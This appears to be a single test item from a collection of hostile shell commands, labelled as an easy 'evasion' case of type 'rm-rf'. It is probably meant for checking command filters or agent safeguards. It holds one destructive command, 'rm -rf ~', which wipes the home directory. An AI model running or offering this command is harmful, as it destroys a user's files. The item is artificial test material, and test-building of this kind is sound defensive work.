# evasion: rm -rf of the home directory
# grade: easy; does: rm-rf
rm -rf ~
